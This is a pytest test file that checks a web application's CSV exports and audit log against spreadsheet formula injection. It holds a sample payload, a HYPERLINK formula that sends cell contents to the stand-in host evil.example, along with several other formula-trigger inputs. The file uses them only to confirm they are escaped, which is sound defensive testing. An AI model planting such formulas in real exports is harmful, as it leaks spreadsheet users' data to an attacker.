"""CSV formula injection (issue 14 §4): every export writes through app.core.spreadsheet, which
keeps a text cell that a spreadsheet would run as a formula as text. The donation export and the
queue's two CSVs are tested in their domains (tests/furusato/test_exports.py,
tests/queue/test_stats.py); here the cell rule and the audit CSV."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from app.core import spreadsheet

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'


@pytest.mark.parametrize("value", [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
                                   "＝HYPERLINK(\"x\")", "＋1", "－1+1", "＠SUM(A1)"])
def test_a_text_cell_a_spreadsheet_would_run_is_kept_text(value: str) -> None:
    assert spreadsheet.cell(value) == "'" + value


@pytest.mark.parametrize("value", [-500, 0, 1.5, Decimal("-3.25"), "-500", "+12", "-1.5", "", "山田 太郎",
                                   "2026-04-01", "A-001", "1=1", None])
def test_numbers_and_ordinary_text_are_written_as_they_are(value: object) -> None:
    assert spreadsheet.cell(value) == value


def test_the_writer_applies_the_rule_to_every_cell() -> None:
    out = io.StringIO()
    spreadsheet.writer(out, lineterminator="\n").writerows([["=1+1", -500, "ok"], ["@x"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1+1", "-500", "ok"], ["'@x"]]


def test_an_anonymous_login_attempt_typed_as_a_formula_is_text_in_the_audit_csv(client, login_as) -> None:
    assert client.post("/login", data={"username": HYPERLINK, "password": "x"}).status_code == 422
    client.post("/login", data={"username": "@SUM(1+1)", "password": "x"})
    login_as("admin")  # rows of no programme (logins) are for administrators
    response = client.get("/audit.csv?action=login_failed")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert response.status_code == 200
    typed = rows[0].index("対象ID")  # a failed login's object is the name typed
    assert {row[typed] for row in rows[1:]} == {"'" + HYPERLINK, "'@SUM(1+1)"}
    assert not [cell for row in rows[1:] for cell in row if cell and cell[0] in "=+-@\t\r"]
